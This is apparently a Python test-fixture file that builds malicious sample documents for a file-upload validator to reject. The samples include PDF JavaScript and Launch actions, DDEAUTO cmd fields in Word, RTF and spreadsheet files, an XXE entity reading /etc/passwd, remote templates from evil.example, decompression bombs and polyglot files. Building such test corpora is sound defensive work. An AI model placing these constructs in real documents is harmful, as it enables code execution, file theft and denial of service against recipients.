"""Files made to attack: each a small real file with one thing in it that must not be accepted."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Object, String

from tests import samples

Change = Callable[[pikepdf.Pdf], None]

RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
WORD_NAMES = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
OFFICE_NAMES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
)


def made(change: Change, **saving: object) -> bytes:
    """A PDF of one page after this change."""
    pdf, out = pikepdf.new(), io.BytesIO()
    pdf.add_blank_page()
    change(pdf)
    pdf.save(out, **saving)  # pyright: ignore[reportArgumentType]
    return out.getvalue()


def _dictionary(**entries: Object | str | int) -> Dictionary:
    return Dictionary({f"/{key}": value for key, value in entries.items()})


def _stream(pdf: pikepdf.Pdf, content: bytes) -> pikepdf.Stream:
    return pikepdf.Stream(pdf, content)


def opens(**action: Object | str | int) -> bytes:
    """A PDF that does this when it opens."""

    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(_dictionary(**action))

    return made(change)


def annotated(**annotation: Object | str | int) -> bytes:
    """A PDF with this on its page."""

    def change(pdf: pikepdf.Pdf) -> None:
        rectangle = Array([0, 0, 20, 20])
        one = pdf.make_indirect(_dictionary(Type=Name.Annot, Rect=rectangle, **annotation))
        pdf.pages[0].obj.Annots = Array([one])
        if annotation["Subtype"] == Name.Widget:
            pdf.Root.AcroForm = Dictionary(Fields=Array([one]))

    return made(change)


def attached(pdf: pikepdf.Pdf) -> None:
    """Attach a file."""
    pdf.attachments["letter.exe"] = b"MZ"


def with_xfa(content: bytes) -> bytes:
    """A PDF with this form."""

    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=_stream(pdf, content))

    return made(change)


def with_stream(content: bytes, **entries: object) -> bytes:
    """A PDF with this stream, as it is."""

    def change(pdf: pikepdf.Pdf) -> None:
        stream = _stream(pdf, content)
        for key, value in entries.items():
            stream[f"/{key}"] = value
        pdf.Root.Extra = stream

    return made(change, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


def deflated(size: int, times: int = 1) -> bytes:
    """So many zeros, packed so many times."""
    packer = zlib.compressobj(9)
    content = b"".join([packer.compress(bytes(2**20)) for _ in range(size // 2**20)])
    content += packer.flush()
    for _ in range(times - 1):
        content = zlib.compress(content, 9)
    return content


def no_pages() -> bytes:
    """A PDF without a page."""
    out = io.BytesIO()
    pikepdf.new().save(out)
    return out.getvalue()


def linked(kind: str, target: str, *, external: bool = True, part: str = "word") -> bytes:
    """A Word file with this relationship."""
    mode = ' TargetMode="External"' if external else ""
    link = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{RELATIONSHIP}{kind}" Target="{target}"{mode}/>'
        "</Relationships>"
    )
    return samples.ooxml(more={f"{part}/_rels/document.xml.rels": link.encode()})


def text(content: str, **more: bytes) -> bytes:
    """A Word file whose text is this."""
    document = f"<w:document {WORD_NAMES}><w:body>{content}</w:body></w:document>"
    return samples.ooxml(more={"word/document.xml": document.encode()})


def open_text(content: str) -> bytes:
    """An OpenDocument text with this in it."""
    document = f"<office:document-content {OFFICE_NAMES}>{content}</office:document-content>"
    return samples.odf(more={"content.xml": document.encode()})


def png(width: int, height: int, behind: bytes = b"") -> bytes:
    """A PNG that says it is so large, and something behind its end."""
    return b"\x89PNG\r\n\x1a\n" + b"".join((
        _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)),
        _chunk(b"IDAT", zlib.compress(bytes(100))),
        _chunk(b"IEND", b""),
        behind,
    ))  # fmt: skip


def _chunk(kind: bytes, content: bytes) -> bytes:
    sums = struct.pack(">I", zlib.crc32(kind + content))
    return struct.pack(">I", len(content)) + kind + content + sums


def _hidden_name(pdf: pikepdf.Pdf) -> None:
    kind = pdf.make_indirect(Name.GoToE)
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=kind, D=Array([0, Name.Fit])))


EVIL = String("app.alert(1)")
ZIP = samples.zipped({"a.exe": b"MZ"})
SIMPLE_FIELD = '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\cmd.exe"/></w:p>'
PIECES = (
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r>'
    "<w:r><w:instrText>EAUTO cmd</w:instrText></w:r>"
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
)

# name → (file, reason)
REFUSED: dict[str, tuple[bytes, str]] = {
    "opens-script.pdf": (opens(S=Name.JavaScript, JS=EVIL), "script"),
    "script-in-disguise.pdf": (
        opens(S=Name.JavaScript, JS=EVIL).replace(b"/JavaScript", b"/J#61v#61Script"),
        "script",
    ),
    "script-after-link.pdf": (
        annotated(
            Subtype=Name.Link,
            A=Dictionary(
                S=Name.URI,
                URI=String("https://example.org"),
                Next=Array([Dictionary(S=Name.JavaScript, JS=EVIL)]),
            ),
        ),
        "script",
    ),
    "additional-action.pdf": (
        annotated(
            Subtype=Name.Widget, FT=Name.Tx, AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=EVIL))
        ),
        "script",
    ),
    "launch.pdf": (opens(S=Name.Launch, F=String("cmd.exe")), "launches"),
    "submit.pdf": (
        annotated(
            Subtype=Name.Widget,
            A=Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://x.example"))),
        ),
        "sends",
    ),
    "import.pdf": (opens(S=Name.ImportData, F=String("a.fdf")), "sends"),
    "go-elsewhere.pdf": (
        opens(S=Name.GoToR, F=String("\\\\evil\\share\\a.pdf"), D=Array([0, Name.Fit])),
        "leads_away",
    ),
    "go-embedded.pdf": (opens(S=Name.GoToE, D=Array([0, Name.Fit])), "leads_away"),
    "go-embedded-by-reference.pdf": (made(_hidden_name), "leads_away"),
    "script-in-the-trailer.pdf": (
        made(lambda pdf: pdf.trailer.__setitem__("/A", Dictionary(S=Name.JavaScript, JS=EVIL))),
        "script",
    ),
    "script-link.pdf": (
        annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))),
        "leads_away",
    ),
    "attachment.pdf": (made(attached), "attachments"),
    "rich-media.pdf": (annotated(Subtype=Name.RichMedia), "media"),
    "three-d.pdf": (annotated(Subtype=Name("/3D")), "media"),
    "xfa-script.pdf": (
        with_xfa(b"<template><subform><event><script>1</script></event></subform></template>"),
        "xfa",
    ),
    "user-password.pdf": (samples.pdf(password="secret"), "encrypted"),
    "owner-password.pdf": (samples.pdf(owner="1234"), "restricted"),
    "no-pages.pdf": (no_pages(), "no_pages"),
    "cut.pdf": (samples.pdf()[:-60], "broken"),
    "shifted.pdf": (b"%PDF-1.7\n" + samples.pdf(), "broken"),
    "trailing.pdf": (samples.pdf() + b"\nMZ more", "trailing"),
    "zip-behind.pdf": (samples.pdf() + ZIP, "two_types"),
    "zip-behind-with-end.pdf": (samples.pdf() + ZIP + b"\n%%EOF\n", "two_types"),
    "page-too.pdf": (
        samples.pdf().replace(b"\n", b"\n%<html><script>alert(1)</script>\n", 1),
        "two_types",
    ),
    "stream-bomb.pdf": (
        with_stream(deflated(400 * 2**20), Filter=Name.FlateDecode),
        "bomb",
    ),
    "stream-bomb-in-bomb.pdf": (
        with_stream(deflated(400 * 2**20, 2), Filter=Array([Name.FlateDecode, Name.FlateDecode])),
        "bomb",
    ),
    "pixel-flood.pdf": (
        with_stream(b"", Type=Name.XObject, Subtype=Name.Image, Width=100_000, Height=100_000),
        "bomb",
    ),
    "template.docx": (linked("attachedTemplate", "https://evil.example/a.dotm"), "external"),
    "picture-from-web.docx": (linked("image", "https://evil.example/a.png"), "external"),
    "share.docx": (linked("hyperlink", "file://evil/share/a.doc"), "leads_away"),
    "object.docx": (linked("oleObject", "embeddings/o.bin", external=False), "attachments"),
    "package.docx": (linked("package", "embeddings/a.xlsx", external=False), "attachments"),
    "chunk.docx": (linked("aFChunk", "a.html", external=False), "attachments"),
    "macro.docx": (samples.ooxml(more={"word/vbaProject.bin": b"x"}), "macros"),
    "dde.docx": (text(SIMPLE_FIELD), "dde"),
    "dde-in-pieces.docx": (text(PIECES), "dde"),
    "entity.docx": (
        samples.ooxml(
            more={"word/document.xml": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x/>'}
        ),
        "doctype",
    ),
    "entity-in-utf-16.docx": (
        samples.ooxml(more={"word/document.xml": "<!DOCTYPE x><x/>".encode("utf-16")}),
        "doctype",
    ),
    "pdf-inside.docx": (
        samples.zipped(
            {
                "%PDF-1.4": b"x",
                "[Content_Types].xml": b'<Types><Default Extension="xml"/></Types>',
                "_rels/.rels": b"<Relationships/>",
                "word/document.xml": b"<x/>",
            }
        ),
        "two_types",
    ),
    "behind.docx": (samples.ooxml() + b"more", "trailing"),
    "bomb.docx": (samples.ooxml(more={"word/media/a.bin": bytes(100 * 2**20)}), "bomb"),
    "many.docx": (
        samples.ooxml(more={f"word/{one}.xml": b"" for one in range(6_000)}),
        "bomb",
    ),
    "dde.xlsx": (
        samples.ooxml(
            "xl/workbook.xml",
            more={"xl/externalLinks/externalLink1.xml": b"<x><ddeLink ddeService='cmd'/></x>"},
        ),
        "dde",
    ),
    "connection.xlsx": (
        samples.ooxml(
            "xl/workbook.xml", more={"xl/connections.xml": b"<x><dbPr connection='x'/></x>"}
        ),
        "external",
    ),
    "macro.odt": (samples.odf(more={"Basic/Standard/a.xml": b"<x/>"}), "macros"),
    "listener.odt": (
        open_text('<office:scripts><script:event-listener script:language="ooo:script"/></office:scripts>'),
        "macros",
    ),
    "picture-from-web.odt": (open_text('<draw:image xlink:href="https://evil.example/a"/>'), "external"),
    "frame.odt": (open_text('<draw:floating-frame xlink:href="a"/>'), "external"),
    "dde.ods": (
        samples.odf(
            "spreadsheet",
            more={
                "content.xml": f"<a {OFFICE_NAMES}><table:table-cell table:formula=\"of:=DDE('cmd';'a';'b')\"/></a>".encode()
            },
        ),
        "dde",
    ),
    "entity.odt": (
        samples.odf(more={"content.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}),
        "doctype",
    ),
    "object.rtf": (rb"{\rtf1{\object\objemb{\*\objdata 0105}}}", "attachments"),
    "dde.rtf": (rb"{\rtf1{\field{\*\fldinst DDEAUTO cmd}}}", "dde"),
    "dde-in-pieces.rtf": (rb"{\rtf1{\field{\*\fldinst {\b D}{\i DEAUTO} cmd}}}", "dde"),
    "dde-in-hex.rtf": (rb"{\rtf1{\field{\*\fldinst \'44DEAUTO cmd}}}", "dde"),
    "template.rtf": (rb"{\rtf1{\*\template https://evil.example/a}x}", "external"),
    "behind.rtf": (samples.RTF + b"MZ", "trailing"),
    "flood.png": (png(60_000, 60_000), "bomb"),
    "behind.png": (png(1, 1, b"MZ"), "trailing"),
    "damaged.png": (samples.image("PNG")[:-40], "broken"),
    "cut.jpg": (samples.image("JPEG")[:-200], "broken"),
    "behind.jpg": (samples.image("JPEG") + b"MZ program", "trailing"),
    "zip-behind.jpg": (samples.image("JPEG") + ZIP, "two_types"),
    "zip-behind.mp3": (samples.MP3 + ZIP, "two_types"),
    "zip-behind.wav": (samples.wav() + ZIP, "two_types"),
    "behind.wav": (samples.wav() + b"MZ program", "trailing"),
    "zip-behind.txt": (b"Dear registry\n" + ZIP, "type_lies"),
    "half.txt": (b"\xff\xfe" + "Dear registry".encode("utf-16-le")[:-1], "broken"),
}  # fmt: skip
